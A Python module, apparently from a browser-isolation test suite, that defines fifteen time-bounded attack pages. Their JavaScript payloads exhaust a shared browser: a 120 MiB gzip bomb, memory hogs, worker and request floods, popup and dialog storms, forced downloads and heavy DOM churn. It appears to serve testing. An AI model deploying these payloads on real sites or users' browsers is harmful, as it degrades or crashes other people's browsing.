# ruff: noqa: E501 - pages of attacks are one line each
"""Pages that harm the environments beside their own, in the same browser. All are bounded in number, time or size."""

from __future__ import annotations

import zlib
from typing import Any

from .attack import GO, Attack, page
from .sites import Reply

SECONDS = 8
"""How long a page goes on if nobody stops it."""
LOOP = f"const end = performance.now() + {SECONDS}000, on = () => performance.now() < end; "


def heavy(name: str, script: str, before: str = "", **more: Any) -> Attack:
    """Return a page whose script runs when Go is pressed. It does not wait for the script, which goes on in the background."""
    go = f"const run = async () => {{ {LOOP}{script} }}; setTimeout(run, 0)"
    return Attack(
        name, f"{before}<p id=box></p><button onclick='act()'>Go</button><script>async function go() {{ {go} }}</script>", (GO,), **more
    )


def every(script: str, times: int = 1) -> str:
    """Return a script that is repeated each millisecond."""
    return f"while (on()) {{ for (let k = 0; k < {times}; k++) {{ {script} }} await sleep(1) }}"


def bomb(mebibytes: int) -> bytes:
    """Return blanks, packed."""
    packer = zlib.compressobj(9, wbits=31)
    return b"".join([*(packer.compress(b" " * (1 << 20)) for _ in range(mebibytes)), packer.flush()])


PACKED = (("Content-Encoding", "gzip"), ("Content-Type", "text/css"))
HEAVY_FRAME = "<!doctype html><iframe src='@port/@name/leaf'></iframe><iframe srcdoc='<iframe></iframe>'></iframe>"

ATTACKS: tuple[Attack, ...] = (
    heavy("frames_of_other_sites_churned", every("const f = document.createElement('iframe'); f.src = '@other/@name/frame?' + Math.random(); box.append(f); if (box.children.length > 6) box.firstChild.remove()"),
          files={"frame": page(HEAVY_FRAME)}),
    heavy("refused_from_workers", "const code = `const u = 'http://127.0.0.9:9/'; setInterval(() => { for (let i = 0; i < 150; i++) { fetch(u + Math.random(), {mode: 'no-cors'}).catch(() => 0); new EventSource(u + Math.random()) } }, 1)`;"
          "const w = [1, 2, 3].map(() => new Worker(URL.createObjectURL(new Blob([code])))); await sleep(" + str(SECONDS) + "000); w.forEach(x => x.terminate())"),
    heavy("refused_pictures_and_sockets", every("const u = '127.0.0.9:9/' + Math.random(); new Image().src = 'http://' + u; new WebSocket('ws://' + u); navigator.sendBeacon('http://' + u, 'x')", 40)),
    heavy("popups", every("const w = window.open('/@name/home?' + Math.random()); setTimeout(() => w?.close(), 9)")),
    heavy("titles_and_history", every("document.title = Math.random() + 't'.repeat(60000); history.pushState('s'.repeat(1e5), '', '#' + Math.random()); location.hash = Math.random()", 10)),
    heavy("dialogs_of_frames", "for (let n = 0; n < 40; n++) { const f = document.createElement('iframe'); box.append(f); f.contentWindow.setInterval('alert(1); confirm(2); prompt(3); print()', 1) }"),
    heavy("nodes_that_change", "const d = document.createElement('div'); d.innerHTML = '<ul>'.repeat(300) + '<li title=x><a href=#>a</a>'.repeat(330000); document.body.append(d);"
          + every("d.firstChild.title = Math.random(); d.style.columnCount = 1 + Math.random() * 3 | 0; document.body.offsetHeight")),
    heavy("memory", "globalThis.kept = []; for (let n = 0; on() && n < 24; n++) { kept.push(new Uint8Array(64e6).fill(n)); await sleep(1) }"),
    heavy("streams_without_end", "for (let n = 0; n < 5; n++) (async () => { const r = (await fetch('/@name/stream?' + n)).body.getReader(); while (on() && !(await r.read()).done); r.cancel() })();"
          "for (let n = 0; n < 5; n++) new EventSource('/@name/events?' + n)",
          files={"stream": Reply(b"x", endless=b"x" * 4000), "events": Reply(b"data: x\n\n", headers=(("Content-Type", "text/event-stream"),), endless=b"data: y\n\n" * 300)}),
    heavy("bombs", "for (let n = 0; n < 9; n++) { fetch('/@name/bomb?' + n).then(r => r.text()).catch(() => 0); document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: '/@name/bomb?s' + n})) }",
          files={"bomb": Reply(bomb(120), headers=PACKED)}),
    heavy("workers", "const w = Array.from({length: 40}, () => new Worker(URL.createObjectURL(new Blob([`const end = Date.now() + " + str(SECONDS) + "000; while (Date.now() < end) postMessage('m'.repeat(2000))`]))));"
          "await sleep(" + str(SECONDS) + "000); w.forEach(x => x.terminate())"),
    heavy("console", every("console.error('e'.repeat(3000), document, new Error('x'), [{a: [k]}]); Promise.reject(new Error('r' + k)); setTimeout(() => { throw k }, 0)", 300)),
    heavy("blobs", every("const u = URL.createObjectURL(new Blob([new Uint8Array(3e5), Math.random() + ''], {type: 'text/html'})); const f = document.createElement('iframe'); f.src = u; box.append(f); if (box.children.length > 5) box.firstChild.remove()")),
    heavy("downloads", every("const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['d'.repeat(2e5)])); a.download = Math.random() + '.bin'; a.click()", 2)),
    heavy("own_requests", every("for (const m of ['GET', 'HEAD']) fetch('/@name/home?' + Math.random(), {method: m}).catch(() => 0); new Image().src = '/@name/p.png?' + Math.random()", 40)),
)  # fmt: skip
